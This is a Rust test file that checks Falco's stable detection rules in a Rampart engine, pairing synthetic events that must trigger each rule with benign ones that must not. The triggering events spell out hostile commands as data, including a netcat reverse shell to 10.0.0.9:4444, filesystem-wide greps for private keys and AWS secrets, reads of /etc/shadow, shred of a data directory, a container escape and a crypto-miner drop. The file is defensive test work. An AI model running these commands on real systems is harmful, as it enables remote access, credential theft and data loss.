//! Falco's stable rules fire on the behaviour they describe, expressed as Rampart
//! events, and stay quiet on a benign neighbour.

use rampart_detect::tests_format::build_event;
use std::sync::Arc;
use std::time::Duration;

use rampart_detect::{
    load_files_with, NoiseConfig, ResolveOptions, RuleEngine, RuleSet, StaticResolver,
};
use serde_json::{json, Value};

const STABLE: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/fixtures/falco/falco_rules.yaml"
);
const CID: &str = "4f1e2d3c4b5a69788796a5b4c3d2e1f04f1e2d3c4b5a69788796a5b4c3d2e1f0";

/// The API server's name as Falco's `k8s_api_server` macro spells it, resolved by the
/// test's own resolver (no cluster here).
const K8S_API: &str = "kubernetes.default.svc.cluster.local";

fn stable() -> RuleSet {
    let resolver = Arc::new(StaticResolver::new());
    resolver.set(K8S_API, vec!["10.96.0.1".parse().unwrap()]);
    let opts = ResolveOptions {
        resolver,
        timeout: Duration::from_secs(2),
    };
    let (set, errors) = load_files_with(&[STABLE], &opts);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(
        set.hostnames().addresses(K8S_API),
        vec!["10.96.0.1".parse::<std::net::IpAddr>().unwrap()]
    );
    set
}

fn container(privileged: bool) -> Value {
    json!({"type": "container", "id": CID, "name": "web", "image": "debian:12",
           "image_repository": "debian", "image_tag": "12", "privileged": privileged, "metadata_complete": true})
}

fn exec(comm: &str, exe: &str, argv: &[&str], extra: Value) -> Value {
    let mut v = json!({"kind": "exec", "data": {"filename": exe},
                       "process": {"comm": comm, "exe": exe, "argv": argv}});
    merge(&mut v, extra);
    v
}

fn merge(a: &mut Value, b: Value) {
    match (a, b) {
        (Value::Object(a), Value::Object(b)) => {
            for (k, v) in b {
                merge(a.entry(k).or_insert(Value::Null), v);
            }
        }
        (a, b) => *a = b,
    }
}

/// (rule, event that must fire it, benign neighbour that must not)
fn cases() -> Vec<(&'static str, Value, Value)> {
    let shell_parent = json!({"ancestry": [{"comm": "runc:[1:CHILD]", "exe": "/usr/bin/runc"}]});
    let shadow = |comm: &str, start_ns: u64| {
        json!({"kind": "file_open", "data": {"path": "/etc/shadow", "flags": 0, "ret": 3},
               "process": {"comm": comm, "exe": format!("/usr/sbin/{comm}"), "argv": [comm], "start_ns": start_ns}})
    };
    let long_ago = 1_699_999_000_000_000_000u64;
    let just_now = 1_699_999_999_000_000_000u64;
    vec![
        (
            "Terminal shell in container",
            exec(
                "bash",
                "/bin/bash",
                &["bash"],
                json!({"process": {"tty": 34816, "ancestry": shell_parent["ancestry"].clone()}, "container": container(false)}),
            ),
            exec(
                "bash",
                "/bin/bash",
                &["bash"],
                json!({"process": {"tty": 0, "ancestry": shell_parent["ancestry"].clone()}, "container": container(false)}),
            ),
        ),
        (
            "Read sensitive file untrusted",
            shadow("cat", long_ago),
            shadow("passwd", long_ago),
        ),
        (
            "Read sensitive file trusted after startup",
            json!({"kind": "file_open", "data": {"path": "/etc/shadow", "flags": 0, "ret": 3},
                   "process": {"comm": "nginx", "exe": "/usr/sbin/nginx", "argv": ["nginx"], "start_ns": long_ago}}),
            json!({"kind": "file_open", "data": {"path": "/etc/shadow", "flags": 0, "ret": 3},
                   "process": {"comm": "nginx", "exe": "/usr/sbin/nginx", "argv": ["nginx"], "start_ns": just_now}}),
        ),
        (
            "Run shell untrusted",
            exec(
                "sh",
                "/bin/sh",
                &["sh", "-c", "id"],
                json!({"process": {"ancestry": [{"comm": "nginx", "exe": "/usr/sbin/nginx"}]}}),
            ),
            exec(
                "sh",
                "/bin/sh",
                &["sh", "-c", "id"],
                json!({"process": {"ancestry": [{"comm": "make", "exe": "/usr/bin/make"}]}}),
            ),
        ),
        (
            "System user interactive",
            exec(
                "id",
                "/usr/bin/id",
                &["id"],
                json!({"process": {"uid": 1, "euid": 1, "ancestry": [{"comm": "bash"}, {"comm": "sshd"}]}}),
            ),
            exec(
                "id",
                "/usr/bin/id",
                &["id"],
                json!({"process": {"uid": 0, "euid": 0, "ancestry": [{"comm": "bash"}, {"comm": "sshd"}]}}),
            ),
        ),
        (
            "Netcat Remote Code Execution in Container",
            exec(
                "nc",
                "/usr/bin/nc",
                &["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
                json!({"container": container(false)}),
            ),
            exec(
                "nc",
                "/usr/bin/nc",
                &["nc", "-z", "db", "5432"],
                json!({"container": container(false)}),
            ),
        ),
        (
            "Search Private Keys or Passwords",
            exec(
                "grep",
                "/bin/grep",
                &["grep", "-r", "BEGIN RSA PRIVATE", "/"],
                json!({}),
            ),
            exec(
                "grep",
                "/bin/grep",
                &["grep", "-r", "TODO", "src"],
                json!({}),
            ),
        ),
        (
            "Clear Log Activities",
            json!({"kind": "file_open", "data": {"path": "/var/log/syslog", "flags": 0o1001, "ret": 3}}),
            json!({"kind": "file_open", "data": {"path": "/var/log/syslog", "flags": 0o2001, "ret": 3}}),
        ),
        (
            "Remove Bulk Data from Disk",
            exec(
                "shred",
                "/usr/bin/shred",
                &["shred", "-u", "/data/db"],
                json!({}),
            ),
            exec("rm", "/bin/rm", &["rm", "/tmp/x"], json!({})),
        ),
        (
            "Create Symlink Over Sensitive Files",
            json!({"kind": "file_link", "data": {"old_path": "/etc/shadow", "new_path": "/tmp/s", "symbolic": true, "ret": 0}}),
            json!({"kind": "file_link", "data": {"old_path": "/tmp/a", "new_path": "/tmp/s", "symbolic": true, "ret": 0}}),
        ),
        (
            "Create Hardlink Over Sensitive Files",
            json!({"kind": "file_link", "data": {"old_path": "/etc/shadow", "new_path": "/tmp/s", "symbolic": false, "ret": 0}}),
            json!({"kind": "file_link", "data": {"old_path": "/etc/shadow", "new_path": "/tmp/s", "symbolic": true, "ret": 0}}),
        ),
        (
            "Linux Kernel Module Injection Detected",
            json!({"kind": "module_load", "data": {"call": "finit_module", "ret": 0}, "container": container(true)}),
            json!({"kind": "module_load", "data": {"call": "finit_module", "ret": -1}, "container": container(false)}),
        ),
        (
            "Debugfs Launched in Privileged Container",
            exec(
                "debugfs",
                "/sbin/debugfs",
                &["debugfs", "/dev/sda1"],
                json!({"container": container(true)}),
            ),
            exec(
                "debugfs",
                "/sbin/debugfs",
                &["debugfs", "/dev/sda1"],
                json!({"container": container(false)}),
            ),
        ),
        (
            "Detect release_agent File Container Escapes",
            json!({"kind": "file_open", "data": {"path": "/tmp/cg/release_agent", "flags": 1, "ret": 3}, "container": container(true)}),
            json!({"kind": "file_open", "data": {"path": "/tmp/cg/release_agent", "flags": 1, "ret": 3}, "container": container(false)}),
        ),
        (
            "PTRACE attached to process",
            json!({"kind": "ptrace", "data": {"request": 16, "target_pid": 1, "ret": 0}}),
            json!({"kind": "ptrace", "data": {"request": 2, "target_pid": 1, "ret": 0}}),
        ),
        (
            "PTRACE anti-debug attempt",
            json!({"kind": "ptrace", "data": {"request": 0, "target_pid": 0, "ret": 0}}),
            json!({"kind": "ptrace", "data": {"request": 7, "target_pid": 9, "ret": 0}}),
        ),
        (
            "Find AWS Credentials",
            exec(
                "grep",
                "/bin/grep",
                &["grep", "-ri", "aws_secret_access_key", "/home"],
                json!({}),
            ),
            exec(
                "grep",
                "/bin/grep",
                &["grep", "-ri", "error", "/var/log"],
                json!({}),
            ),
        ),
        (
            "Execution from /dev/shm",
            exec("x", "/dev/shm/x", &["/dev/shm/x"], json!({})),
            exec("x", "/usr/local/bin/x", &["/usr/local/bin/x"], json!({})),
        ),
        (
            "Disallowed SSH Connection Non Standard Port",
            json!({"kind": "net_connect", "process": {"comm": "ssh", "exe": "/usr/bin/ssh", "argv": ["ssh", "-p", "4444", "x"]},
                   "data": {"proto": "tcp", "remote": {"family": "inet", "ip": "93.184.216.34", "port": 4444}, "ret": 0}}),
            json!({"kind": "net_connect", "process": {"comm": "ssh", "exe": "/usr/bin/ssh", "argv": ["ssh", "x"]},
                   "data": {"proto": "tcp", "remote": {"family": "inet", "ip": "93.184.216.34", "port": 22}, "ret": 0}}),
        ),
        (
            "Contact K8S API Server From Container",
            json!({"kind": "net_connect", "process": {"comm": "curl", "exe": "/usr/bin/curl", "argv": ["curl", "-k", "https://kubernetes.default.svc.cluster.local/api"]},
                   "data": {"proto": "tcp", "remote": {"family": "inet", "ip": "10.96.0.1", "port": 443}, "ret": 0},
                   "container": container(false)}),
            json!({"kind": "net_connect", "process": {"comm": "curl", "exe": "/usr/bin/curl", "argv": ["curl", "-k", "https://10.96.0.2/api"]},
                   "data": {"proto": "tcp", "remote": {"family": "inet", "ip": "10.96.0.2", "port": 443}, "ret": 0},
                   "container": container(false)}),
        ),
        (
            "Fileless execution via memfd_create",
            json!({"kind": "exec", "data": {"filename": "/proc/self/fd/3", "from_memfd": true},
                   "process": {"comm": "3", "exe": "memfd:payload (deleted)", "argv": ["payload"]}}),
            json!({"kind": "exec", "data": {"filename": "/usr/bin/ls"}, "process": {"comm": "ls", "exe": "/usr/bin/ls", "argv": ["ls"]}}),
        ),
        (
            "Directory traversal monitored file read",
            json!({"kind": "file_open", "data": {"path": "/var/www/html/../../../etc/passwd", "flags": 0, "ret": 3},
                   "process": {"comm": "php-fpm", "exe": "/usr/sbin/php-fpm", "argv": ["php-fpm"], "ancestry": [{"comm": "php-fpm"}]}}),
            json!({"kind": "file_open", "data": {"path": "/etc/passwd", "flags": 0, "ret": 3},
                   "process": {"comm": "php-fpm", "exe": "/usr/sbin/php-fpm", "argv": ["php-fpm"], "ancestry": [{"comm": "php-fpm"}]}}),
        ),
        (
            "Packet socket created in container",
            json!({"kind": "socket", "data": {"domain": "AF_PACKET", "sock_type": 3, "protocol": 768, "ret": 3},
                   "process": {"comm": "tcpdump", "exe": "/usr/bin/tcpdump", "argv": ["tcpdump", "-i", "eth0"]}, "container": container(false)}),
            json!({"kind": "socket", "data": {"domain": "AF_INET", "sock_type": 3, "protocol": 1, "ret": 3},
                   "process": {"comm": "ping", "exe": "/usr/bin/ping", "argv": ["ping", "10.0.0.1"]}, "container": container(false)}),
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            json!({"kind": "fd_dup", "data": {"call": "dup2", "old_fd": 3, "new_fd": 0, "proto": "tcp",
                   "local": {"family": "inet", "ip": "172.17.0.2", "port": 40000},
                   "remote": {"family": "inet", "ip": "10.0.0.9", "port": 4444}},
                   "process": {"comm": "sh", "exe": "/bin/sh", "argv": ["sh", "-i"]}, "container": container(false)}),
            json!({"kind": "fd_dup", "data": {"call": "dup2", "old_fd": 3, "new_fd": 0, "proto": "tcp",
                   "local": {"family": "inet", "ip": "172.17.0.2", "port": 40000},
                   "remote": {"family": "inet", "ip": "10.0.0.9", "port": 4444}},
                   "process": {"comm": "sh", "exe": "/bin/sh", "argv": ["sh", "-i"]}}),
        ),
        (
            "Drop and execute new binary in container",
            exec(
                "xmrig",
                "/tmp/xmrig",
                &["/tmp/xmrig"],
                json!({"process": {"exe_upper_layer": true}, "container": container(false)}),
            ),
            exec(
                "nginx",
                "/usr/sbin/nginx",
                &["nginx"],
                json!({"container": container(false)}),
            ),
        ),
    ]
}

/// Rules whose inputs Rampart's events cannot express yet (see the load warnings).
const CANNOT_FIRE: [&str; 0] = [];

/// The user database the events come with (Debian's base-passwd entries): rules such
/// as "System user interactive" test `user.name`, which the engine takes from the user
/// directory it is given, not from the host running the test.
const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
";

fn matching_rules<'s>(set: &'s RuleSet, ev: &rampart_event::Event) -> Vec<&'s str> {
    set.matching_rules_with(ev, &rampart_detect::StaticUsers::from_passwd(PASSWD))
}

#[test]
fn stable_rules_fire_and_benign_neighbours_do_not() {
    let set = stable();
    let mut covered = Vec::new();
    for (rule, fire, quiet) in cases() {
        let ev = build_event(&fire).unwrap();
        let fired = matching_rules(&set, &ev);
        assert!(
            fired.contains(&rule),
            "{rule}: did not fire on {fire}; fired {fired:?}"
        );
        let ev = build_event(&quiet).unwrap();
        let fired = matching_rules(&set, &ev);
        assert!(!fired.contains(&rule), "{rule}: fired on benign {quiet}");
        covered.push(rule);
    }
    let names: Vec<&str> = set.rules().iter().map(|r| r.name.as_str()).collect();
    for n in &names {
        assert!(
            covered.contains(n) || CANNOT_FIRE.contains(n),
            "stable rule without a case: {n}"
        );
    }
    println!(
        "{} of {} stable rules fire on events; cannot fire yet: {CANNOT_FIRE:?}",
        covered.len(),
        names.len()
    );
}

#[test]
fn alerts_carry_rendered_output_mitre_and_event() {
    let (engine, errors) = RuleEngine::load_with(&[STABLE], NoiseConfig::default()).unwrap();
    assert!(errors.is_empty());
    let ev = build_event(&json!({"kind": "file_open", "data": {"path": "/etc/shadow", "flags": 0, "ret": 3},
        "process": {"comm": "cat", "exe": "/usr/bin/cat", "argv": ["cat", "/etc/shadow"],
                    "ancestry": [{"comm": "bash", "exe": "/bin/bash"}, {"comm": "sshd", "exe": "/usr/sbin/sshd"}]}}))
    .unwrap();
    let alerts = engine.evaluate(&ev);
    let a = alerts
        .iter()
        .find(|a| a.rule == "Read sensitive file untrusted")
        .expect("alert");
    assert!(
        a.message.starts_with(
            "Sensitive file opened for reading by non-trusted program | file=/etc/shadow"
        ),
        "{}",
        a.message
    );
    assert!(
        a.message.contains("parent=bash")
            && a.message.contains("gparent=sshd")
            && a.message.contains("command=cat /etc/shadow"),
        "{}",
        a.message
    );
    assert_eq!(a.output_fields["fd.name"], json!("/etc/shadow"));
    assert_eq!(a.output_fields["user.uid"], json!(0));
    assert_eq!(a.output_fields["proc.aname[2]"], json!("sshd"));
    assert_eq!(a.mitre, vec!["T1555".to_string()]);
    assert!(a.tags.contains(&"mitre_credential_access".to_string()));
    assert_eq!(a.event, ev);
    assert_eq!(a.count, 1);
    println!("{}", a.message);
}
